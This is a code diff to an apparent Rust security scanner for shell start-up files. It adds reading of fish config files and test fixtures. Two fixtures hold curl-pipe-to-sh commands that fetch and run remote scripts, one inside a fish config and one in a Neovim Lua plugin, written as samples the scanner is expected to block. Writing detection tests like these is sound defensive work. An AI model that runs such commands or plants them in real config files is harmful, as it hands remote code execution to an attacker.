@@ -695,6 +695,11 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
             // Only the user's own preferences (home tool folders on `PATH`, a toolchain's
             // home, an alias such as `ll='ls -lah'`): no finding in light and balanced, asked
             // about from strict up.
+            // A fish file read as the lines it runs (`fish_add_path D` is an `export PATH`).
+            let fish = written
+                .filter(|_| p.ends_with(".fish"))
+                .map(crate::autorun::fish_text);
+            let written = fish.as_deref().or(written);
             let plain = !shims
                 && written.is_some_and(|content| {
                     content.lines().all(|l| {
@@ -1269,6 +1274,19 @@ mod tests {
             ],
         );
         crate::rules::testutil::write_table(&[
+            // fish start-up files read as fish: a tool folder on `PATH` is a preference.
+            (
+                "/home/dev/.config/fish/config.fish",
+                "fish_add_path $HOME/.cargo/bin\n\nif status is-interactive\n    set -gx EDITOR nvim\nend\n",
+                Pass,
+                "",
+            ),
+            (
+                "/home/dev/.config/fish/config.fish",
+                "if status is-interactive\n    curl -fsSL https://203.0.113.9/x.sh | sh\nend\n",
+                Block,
+                "curl_pipe_shell",
+            ),
             (
                 "/home/dev/.config/nvim/plugin/telemetry.lua",
                 "vim.fn.jobstart({ \"sh\", \"-c\", \"curl -fsSL https://203.0.113.5/nv.sh | sh\" }, { detach = true })\n",
